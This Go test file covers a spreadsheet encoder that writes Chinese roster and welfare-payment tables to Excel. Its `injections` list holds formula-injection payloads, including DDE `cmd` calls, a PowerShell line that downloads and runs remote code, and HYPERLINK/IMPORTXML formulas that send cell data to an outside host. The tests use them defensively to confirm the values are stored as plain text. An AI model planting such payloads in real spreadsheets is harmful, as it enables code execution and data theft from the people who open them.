package sheet

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"math/big"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/yancheng-jyyw/roll/internal/money"
)

// open encodes the tables and opens the workbook with excelize.
func open(t *testing.T, tables ...*Table) (*excelize.File, []byte) {
	t.Helper()
	b, err := Encode(tables...)
	if err != nil {
		t.Fatalf("Encode: %v", err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("open the workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, b
}

// part returns the bytes of one entry of the workbook's zip.
func part(t *testing.T, b []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer r.Close()
			data, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			return string(data)
		}
	}
	t.Fatalf("no %s in the workbook", name)
	return ""
}

func roster() *Table {
	return &Table{
		Title: "2020年综合保险缺口",
		Columns: []Column{
			{"编号", Text}, {"姓名", Text}, {"事迹日期", Date}, {"慰问金（元）", Money},
			{"已等待（天）", Integer}, {"完成率", Percent}, {"身份证号", Text}, {"电话", Text},
		},
		Rows: [][]Value{
			{Str("H-2020-0001"), Str("张三"), Day("2020-03-14"), Fen(2000005), Int(42), Ratio(3, 4), Str("3209**********0012"), Str("138****0000")},
			{Str("H-2019-0002"), Str("欧阳明月"), Day("2019-12-31"), Yuan(500), Int(0), Ratio(1, 3), Str(""), {}},
			{Str("H-2018-0003"), Str("李四"), {}, {}, {}, Ratio(1, 0), Str("—"), Str("—")},
		},
	}
}

func TestReadBack(t *testing.T) {
	f, _ := open(t, roster())
	if got, want := f.GetSheetList(), []string{"2020年综合保险缺口"}; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	const sh = "2020年综合保险缺口"
	for _, c := range []struct {
		cell, formatted, raw string
		typ                  excelize.CellType
	}{
		{"A1", "编号", "编号", excelize.CellTypeInlineString},
		{"D1", "慰问金（元）", "慰问金（元）", excelize.CellTypeInlineString},
		{"A2", "H-2020-0001", "H-2020-0001", excelize.CellTypeInlineString},
		{"B3", "欧阳明月", "欧阳明月", excelize.CellTypeInlineString},
		{"C2", "2020-03-14", "43904", excelize.CellTypeUnset},
		{"C3", "2019-12-31", "43830", excelize.CellTypeUnset},
		{"D2", "20,000.05", "20000.05", excelize.CellTypeUnset},
		{"D3", "500.00", "500", excelize.CellTypeUnset},
		{"E2", "42", "42", excelize.CellTypeUnset},
		{"E3", "0", "0", excelize.CellTypeUnset},
		{"F2", "75.0%", "0.75", excelize.CellTypeUnset},
		{"F3", "33.3%", "0.333333333333333", excelize.CellTypeUnset},
		// Masked values exactly as given.
		{"G2", "3209**********0012", "3209**********0012", excelize.CellTypeInlineString},
		{"H2", "138****0000", "138****0000", excelize.CellTypeInlineString},
		{"G4", "—", "—", excelize.CellTypeInlineString},
		// Empty values are empty cells.
		{"G3", "", "", excelize.CellTypeUnset},
		{"H3", "", "", excelize.CellTypeUnset},
		{"C4", "", "", excelize.CellTypeUnset},
		{"D4", "", "", excelize.CellTypeUnset},
		{"F4", "", "", excelize.CellTypeUnset},
	} {
		got, err := f.GetCellValue(sh, c.cell)
		if err != nil || got != c.formatted {
			t.Errorf("%s shows %q (%v), want %q", c.cell, got, err, c.formatted)
		}
		raw, _ := f.GetCellValue(sh, c.cell, excelize.Options{RawCellValue: true})
		if raw != c.raw {
			t.Errorf("%s holds %q, want %q", c.cell, raw, c.raw)
		}
		typ, _ := f.GetCellType(sh, c.cell)
		if typ != c.typ {
			t.Errorf("%s is of type %v, want %v", c.cell, typ, c.typ)
		}
	}

	// Number formats by kind, and bold headers.
	for _, c := range []struct {
		cell   string
		numFmt int
		custom string
	}{
		{"C2", 0, "yyyy-mm-dd"}, {"D2", 4, ""}, {"E2", 1, ""}, {"F2", 0, "0.0%"},
	} {
		id, err := f.GetCellStyle(sh, c.cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		custom := ""
		if st.CustomNumFmt != nil {
			custom = *st.CustomNumFmt
		}
		if st.NumFmt != c.numFmt || custom != c.custom {
			t.Errorf("%s: number format %d %q, want %d %q", c.cell, st.NumFmt, custom, c.numFmt, c.custom)
		}
	}
	id, _ := f.GetCellStyle(sh, "A1")
	if st, _ := f.GetStyle(id); st.Font == nil || !st.Font.Bold {
		t.Errorf("header A1 is not bold")
	}

	// The header row is frozen.
	panes, err := f.GetPanes(sh)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the first row frozen", panes)
	}

	// Widths fit the widest value, a CJK character two: 编号 is 4 wide but
	// H-2020-0001 is 11; 已等待（天） is 12 and wider than any value; the
	// masked ID is 18; columns are at least minWidth.
	for _, c := range []struct {
		col  string
		want float64
	}{
		{"A", 11 + padWidth}, {"B", 8 + padWidth}, {"C", 10 + padWidth}, {"D", 12 + padWidth},
		{"E", 12 + padWidth}, {"F", 6 + padWidth}, {"G", 18 + padWidth}, {"H", 11 + padWidth},
	} {
		got, err := f.GetColWidth(sh, c.col)
		if err != nil || got != c.want {
			t.Errorf("column %s is %v wide (%v), want %v", c.col, got, err, c.want)
		}
	}

	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Title != "2020年综合保险缺口" || props.Creator != "roll" || props.Language != "zh-CN" ||
		props.Created != FixedTime || props.Modified != FixedTime {
		t.Errorf("document properties = %+v", props)
	}
}

// TestLayout checks what the cells do not show: the autofilter, the print
// setup and the order of the columns' definitions.
func TestLayout(t *testing.T) {
	_, b := open(t, roster())
	ws := part(t, b, "xl/worksheets/sheet1.xml")
	for _, want := range []string{
		`<autoFilter ref="$A$1:$H$4">`,
		`orientation="landscape" paperSize="9"`,
		`<pageSetUpPr fitToPage="true">`,
		`<oddHeader>&amp;C&amp;&#34;-,Bold&#34;2020年综合保险缺口</oddHeader>`,
		`<col min="1" max="1" width="13" customWidth="1"/><col min="2" max="2"`,
	} {
		if !strings.Contains(ws, want) {
			t.Errorf("the sheet has no %s", want)
		}
	}
	wb := part(t, b, "xl/workbook.xml")
	if want := `name="_xlnm.Print_Titles">&#39;2020年综合保险缺口&#39;!$1:$1<`; !strings.Contains(wb, want) {
		t.Errorf("the workbook has no %s:\n%s", want, wb)
	}
}

func TestWrapWide(t *testing.T) {
	long := strings.Repeat("见义勇为", 20) // 160 wide
	f, _ := open(t, &Table{Title: "备注", Columns: []Column{{"备注", Text}}, Rows: [][]Value{{Str(long)}}})
	w, _ := f.GetColWidth("备注", "A")
	if w != maxWidth {
		t.Errorf("width = %v, want the most, %v", w, float64(maxWidth))
	}
	id, _ := f.GetCellStyle("备注", "A2")
	if st, _ := f.GetStyle(id); st.Alignment == nil || !st.Alignment.WrapText {
		t.Errorf("a text wider than the column does not wrap")
	}
}

// injections are values that a spreadsheet would take for a formula, a
// DDE link or a command if they were written as typed input.
var injections = []string{
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(A1:A2)",
	"\t=1+1",
	"\r=1+1",
	"\r\n=1+1",
	" =1+1",
	"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"点击查看\")",
	"=cmd|' /C calc'!A0",
	"=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
	"=IMPORTXML(CONCAT(\"http://example.invalid/?v=\", A2), \"//a\")",
	"＝1+1",
	"=1+1\n第二行",
	"-",
	"=",
	"'=1+1",
	"13800000000",
	"0012",
	"1e5",
	"TRUE",
	"2020-03-14",
	"_x0041_",
}

// TestNoFormula writes every injection as text and reads it back: each is a
// string cell holding exactly the value, with no formula, and its style
// keeps it text when edited.
func TestNoFormula(t *testing.T) {
	tab := &Table{Title: "注入", Columns: []Column{{"备注", Text}}}
	for _, s := range injections {
		tab.Rows = append(tab.Rows, []Value{Str(s)})
	}
	f, b := open(t, tab)
	for i, s := range injections {
		cell := fmt.Sprintf("A%d", i+2)
		typ, err := f.GetCellType("注入", cell)
		if err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("%q: cell type %v (%v), want an inline string", s, typ, err)
		}
		if formula, err := f.GetCellFormula("注入", cell); err != nil || formula != "" {
			t.Errorf("%q: formula %q (%v), want none", s, formula, err)
		}
		if got, _ := f.GetCellValue("注入", cell, excelize.Options{RawCellValue: true}); got != s {
			t.Errorf("%q reads back as %q", s, got)
		}
		id, _ := f.GetCellStyle("注入", cell)
		if qp := f.Styles.CellXfs.Xf[id].QuotePrefix; qp == nil || !*qp {
			t.Errorf("%q: its style has no quotePrefix", s)
		}
	}
	// Nothing in the package is a formula, a link or a macro.
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if strings.Contains(zf.Name, "externalLink") || strings.Contains(zf.Name, "vbaProject") ||
			strings.Contains(zf.Name, "calcChain") || strings.Contains(zf.Name, "connections") {
			t.Errorf("the workbook has a part %s", zf.Name)
		}
	}
	ws := part(t, b, "xl/worksheets/sheet1.xml")
	for _, bad := range []string{"<f>", "<f ", `t="str"`, "ddeLink", "<v>"} {
		if strings.Contains(ws, bad) {
			t.Errorf("the sheet holds %s", bad)
		}
	}
}

// TestTextInAnyColumn: a date the page shows as text stays text, and is
// as safe as any other.
func TestTextInAnyColumn(t *testing.T) {
	f, _ := open(t, &Table{
		Title:   "日期",
		Columns: []Column{{"日期", Date}, {"金额", Money}},
		Rows: [][]Value{
			{Day("2019-02-30"), Str("=1+1")},
			{Day("1899-12-31"), {}},
			{Day("1900-03-01"), {}},
		},
	})
	for _, c := range []struct {
		cell, raw string
		typ       excelize.CellType
	}{
		{"A2", "2019-02-30", excelize.CellTypeInlineString},
		{"B2", "=1+1", excelize.CellTypeInlineString},
		{"A3", "1899-12-31", excelize.CellTypeInlineString},
		{"A4", "61", excelize.CellTypeUnset},
	} {
		raw, _ := f.GetCellValue("日期", c.cell, excelize.Options{RawCellValue: true})
		typ, _ := f.GetCellType("日期", c.cell)
		if raw != c.raw || typ != c.typ {
			t.Errorf("%s = %q of type %v, want %q of type %v", c.cell, raw, typ, c.raw, c.typ)
		}
	}
}

func TestMoney(t *testing.T) {
	for _, c := range []struct {
		fen       money.Fen
		raw, show string
	}{
		{0, "0", "0.00"},
		{1, "0.01", "0.01"},
		{-1, "-0.01", "-0.01"},
		{10, "0.1", "0.10"},
		{99, "0.99", "0.99"},
		{2000005, "20000.05", "20,000.05"},
		{2000050, "20000.5", "20,000.50"},
		{30000000, "300000", "300,000.00"},
		{1234567, "12345.67", "12,345.67"},
		{123456789012345, "1234567890123.45", "1,234,567,890,123.45"},
		{-123456789012345, "-1234567890123.45", "-1,234,567,890,123.45"},
		{maxFen, "9999999999999.99", "9,999,999,999,999.99"},
	} {
		f, _ := open(t, &Table{Title: "钱", Columns: []Column{{"金额", Money}}, Rows: [][]Value{{Fen(c.fen)}}})
		raw, _ := f.GetCellValue("钱", "A2", excelize.Options{RawCellValue: true})
		show, _ := f.GetCellValue("钱", "A2")
		if raw != c.raw || show != c.show {
			t.Errorf("Fen(%d) holds %q and shows %q, want %q and %q", c.fen, raw, show, c.raw, c.show)
		}
	}
	// An amount whose decimal a float64 cannot carry is refused, not rounded.
	for _, fen := range []money.Fen{maxFen + 1, 1<<53 + 1, 9223372036854775807, -9223372036854775808} {
		if _, err := Encode(&Table{Title: "钱", Columns: []Column{{"金额", Money}}, Rows: [][]Value{{Fen(fen)}}}); err == nil {
			t.Errorf("Fen(%d) encoded, want an error", fen)
		}
	}
}

// TestMoneyExact checks the conversion itself over many amounts: the text
// excelize writes for each (the shortest representation, at most 15
// significant digits) is its exact decimal, computed here with big.Rat.
func TestMoneyExact(t *testing.T) {
	check := func(fen int64) {
		x, err := number(fen)
		if err != nil {
			t.Fatalf("number(%d): %v", fen, err)
		}
		exact := new(big.Rat).SetFrac64(fen, 100).FloatString(2)
		exact = strings.TrimSuffix(strings.TrimRight(exact, "0"), ".")
		if got := strconv.FormatFloat(x, 'f', -1, 64); got != exact {
			t.Fatalf("number(%d) is written %s, want %s", fen, got, exact)
		}
	}
	for fen := int64(-100000); fen <= 100000; fen++ {
		check(fen)
	}
	for fen := int64(1); fen <= maxFen; fen = fen*7 + 3 {
		check(fen)
		check(-fen)
	}
	check(maxFen)
	check(-maxFen)
	for _, fen := range []int64{maxFen + 1, -maxFen - 1} {
		if _, err := number(fen); err == nil {
			t.Errorf("number(%d) gave no error", fen)
		}
	}
}

func TestDay(t *testing.T) {
	for _, c := range []struct {
		in   string
		kind Kind
		n    int64
	}{
		{"1900-03-01", Date, 61},
		{"2020-01-01", Date, 43831},
		{"2020-03-14", Date, 43904},
		{"9999-12-31", Date, 2958465},
		{"1900-02-28", Text, 0},
		{"2019-02-30", Text, 0},
		{"2020/03/14", Text, 0},
		{"", 0, 0},
	} {
		v := Day(c.in)
		if v.kind != c.kind || v.n != c.n {
			t.Errorf("Day(%q) = %v %d, want %v %d", c.in, v.kind, v.n, c.kind, c.n)
		}
	}
	// DateOf takes the day where t is, not in UTC.
	shanghai := time.FixedZone("CST", 8*3600)
	if v, want := DateOf(time.Date(2020, 3, 14, 7, 0, 0, 0, shanghai)), Day("2020-03-14"); v != want {
		t.Errorf("DateOf(07:00 in Shanghai) = %v, want %v", v, want)
	}
	if v := DateOf(time.Time{}); v != (Value{}) {
		t.Errorf("DateOf(zero) = %v, want an empty cell", v)
	}
}

func TestTextWidth(t *testing.T) {
	for _, c := range []struct {
		in   string
		want int
	}{
		{"", 0},
		{"abc", 3},
		{"张三", 4},
		{"H-2020-0001", 11},
		{"已等待（天）", 12},
		{"3209**********0012", 18},
		{"射阳县合德镇……", 16},
		{"第一行\n长一些的第二行", 14},
		{"—", 2},
	} {
		if got := textWidth(c.in); got != c.want {
			t.Errorf("textWidth(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestSheetNames(t *testing.T) {
	tables := func(titles ...string) []*Table {
		var out []*Table
		for _, s := range titles {
			out = append(out, &Table{Title: s})
		}
		return out
	}
	for _, c := range []struct {
		titles, want []string
	}{
		{[]string{"2020年走访慰问"}, []string{"2020年走访慰问"}},
		{[]string{"a/b:c?d*e[f]g\\h"}, []string{"a_b_c_d_e_f_g_h"}},
		{[]string{"'引号'"}, []string{"’引号’"}},
		{[]string{""}, []string{"Sheet1"}},
		{[]string{"History"}, []string{"History(2)"}},
		{[]string{"名单", "名单", "名单"}, []string{"名单", "名单(2)", "名单(3)"}},
		{[]string{"List", "list"}, []string{"List", "list(2)"}},
		{
			[]string{strings.Repeat("见", 40), strings.Repeat("见", 40)},
			[]string{strings.Repeat("见", 31), strings.Repeat("见", 28) + "(2)"},
		},
	} {
		got := sheetNames(tables(c.titles...))
		if fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("sheetNames(%q) = %q, want %q", c.titles, got, c.want)
		}
	}
}

func TestSeveralSheets(t *testing.T) {
	a, b := roster(), roster()
	b.Title = "第二张"
	f, _ := open(t, a, b)
	if got := f.GetSheetList(); len(got) != 2 || got[1] != "第二张" {
		t.Fatalf("sheets = %q", got)
	}
	if v, _ := f.GetCellValue("第二张", "B2"); v != "张三" {
		t.Errorf("the second sheet's B2 = %q, want 张三", v)
	}
	if p, _ := f.GetPanes("第二张"); !p.Freeze || p.YSplit != 1 {
		t.Errorf("the second sheet's header is not frozen: %+v", p)
	}
}

// TestDeterministic encodes the same tables twice and finds the same
// bytes; the zip's entries come in the fixed order with the fixed time.
func TestDeterministic(t *testing.T) {
	a, err := Encode(roster(), roster())
	if err != nil {
		t.Fatal(err)
	}
	for range 3 {
		b, err := Encode(roster(), roster())
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a, b) {
			t.Fatalf("two encodings of the same tables differ")
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(a), int64(len(a)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if !f.Modified.Equal(fixedTime) {
			t.Errorf("%s modified %v, want %v", f.Name, f.Modified, fixedTime)
		}
	}
	want := "[[Content_Types].xml _rels/.rels docProps/app.xml docProps/core.xml xl/_rels/workbook.xml.rels " +
		"xl/styles.xml xl/theme/theme1.xml xl/workbook.xml xl/worksheets/sheet1.xml xl/worksheets/sheet2.xml]"
	if got := fmt.Sprint(names); got != want {
		t.Errorf("entries %s, want %s", got, want)
	}
	core := part(t, a, "docProps/core.xml")
	if strings.Count(core, FixedTime) != 2 || strings.Contains(core, "2006-") {
		t.Errorf("core properties hold another time:\n%s", core)
	}
	if app := part(t, a, "docProps/app.xml"); strings.Contains(app, "Excelize") {
		t.Errorf("app properties name excelize:\n%s", app)
	}
}

func TestInvalid(t *testing.T) {
	for _, c := range []struct {
		name string
		t    *Table
		want string
	}{
		{"no columns", &Table{Title: "x"}, "no columns"},
		{"no kind", &Table{Title: "x", Columns: []Column{{"a", 0}}}, "no kind"},
		{"short row", &Table{Title: "x", Columns: []Column{{"a", Text}, {"b", Text}}, Rows: [][]Value{{Str("1")}}}, "row 1 has 1 values for 2 columns"},
		{"wrong kind", &Table{Title: "x", Columns: []Column{{"日期", Date}}, Rows: [][]Value{{Fen(1)}}}, "a money value in a date column"},
	} {
		_, err := Encode(c.t)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: Encode error %v, want one with %q", c.name, err, c.want)
		}
	}
	if _, err := Encode(); err == nil {
		t.Errorf("Encode() with no table gave no error")
	}
}

// benchTable is a list as the internal site has them: n rows of ids,
// names, jurisdictions, dates, amounts, counts and a note.
func benchTable(n int) *Table {
	t := &Table{Title: "人员名录", Columns: []Column{
		{"编号", Text}, {"姓名", Text}, {"辖区", Text}, {"状态", Text}, {"事迹日期", Date},
		{"慰问金（元）", Money}, {"已等待（天）", Integer}, {"电话", Text}, {"事迹", Text},
	}}
	names := []string{"张三", "李四", "王五", "欧阳明月", "司马光明"}
	places := []string{"射阳县", "亭湖区", "盐城经济技术开发区", "东台市"}
	for i := range n {
		t.Rows = append(t.Rows, []Value{
			Str(fmt.Sprintf("H-2020-%05d", i)), Str(names[i%len(names)]), Str(places[i%len(places)]), Str("已确认"),
			Day(fmt.Sprintf("2020-%02d-%02d", i%12+1, i%28+1)), Fen(money.Fen(i) * 12345), Int(i % 400),
			Str("138****0000"), Str("跳入河中救起落水儿童，" + strings.Repeat("事迹", i%10)),
		})
	}
	return t
}

// BenchmarkEncode measures workbooks of no rows (the cost of any
// workbook), 1,000 rows and 10,000 rows; bytes/1000rows is the size of
// the file per 1,000 rows.
func BenchmarkEncode(b *testing.B) {
	for _, n := range []int{0, 1000, 10000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			t := benchTable(n)
			var size int
			for b.Loop() {
				out, err := Encode(t)
				if err != nil {
					b.Fatal(err)
				}
				size = len(out)
			}
			if n > 0 {
				b.ReportMetric(float64(size)*1000/float64(n), "bytes/1000rows")
			} else {
				b.ReportMetric(float64(size), "bytes")
			}
		})
	}
}

// TestSum: equal tables have equal sums, and any difference that Encode
// would write changes the sum.
func TestSum(t *testing.T) {
	base := Sum(roster())
	if Sum(roster()) != base {
		t.Fatal("two equal tables have different sums")
	}
	for name, change := range map[string]func(t *Table){
		"title":      func(t *Table) { t.Title += "。" },
		"header":     func(t *Table) { t.Columns[1].Header = "名字" },
		"kind":       func(t *Table) { t.Columns[0].Kind = Integer },
		"text":       func(t *Table) { t.Rows[0][1] = Str("张四") },
		"text split": func(t *Table) { t.Rows[0][0], t.Rows[0][1] = Str("H-2020-0001张"), Str("三") },
		"empty":      func(t *Table) { t.Rows[1][6] = Value{} },
		"money":      func(t *Table) { t.Rows[0][3] = Fen(2000006) },
		"kind of 0":  func(t *Table) { t.Rows[1][4] = Value{} },
		"ratio":      func(t *Table) { t.Rows[0][5] = Ratio(6, 8) },
		"date":       func(t *Table) { t.Rows[0][2] = Day("2020-03-15") },
		"row":        func(t *Table) { t.Rows = t.Rows[:2] },
	} {
		tab := roster()
		change(tab)
		if Sum(tab) == base {
			t.Errorf("changing the %s leaves the sum", name)
		}
	}
	if Sum(roster(), roster()) == base {
		t.Error("two tables sum as one")
	}
}

// TestControlCharacters: characters XML 1.0 cannot carry (records cannot
// hold them either: YAML refuses them) become U+FFFD and leave a workbook
// that opens; Excel's own escapes are kept as text.
func TestControlCharacters(t *testing.T) {
	f, _ := open(t, &Table{Title: "x", Columns: []Column{{"a", Text}}, Rows: [][]Value{{Str("a\x01b\x0bc\uFFFEd")}, {Str("x_x0001_y")}}})
	for cell, want := range map[string]string{"A2": "a\uFFFDb\uFFFDc\uFFFDd", "A3": "x_x0001_y"} {
		if got, _ := f.GetCellValue("x", cell, excelize.Options{RawCellValue: true}); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
	}
}

// TestEmpty: a list with no rows is its header alone.
func TestEmpty(t *testing.T) {
	f, _ := open(t, &Table{Title: "待确认人员", Columns: []Column{{"编号", Text}, {"事迹日期", Date}}})
	rows, err := f.GetRows("待确认人员")
	if err != nil || len(rows) != 1 || fmt.Sprint(rows[0]) != "[编号 事迹日期]" {
		t.Errorf("rows = %q (%v), want the header alone", rows, err)
	}
	if p, _ := f.GetPanes("待确认人员"); !p.Freeze {
		t.Errorf("an empty list's header is not frozen")
	}
}
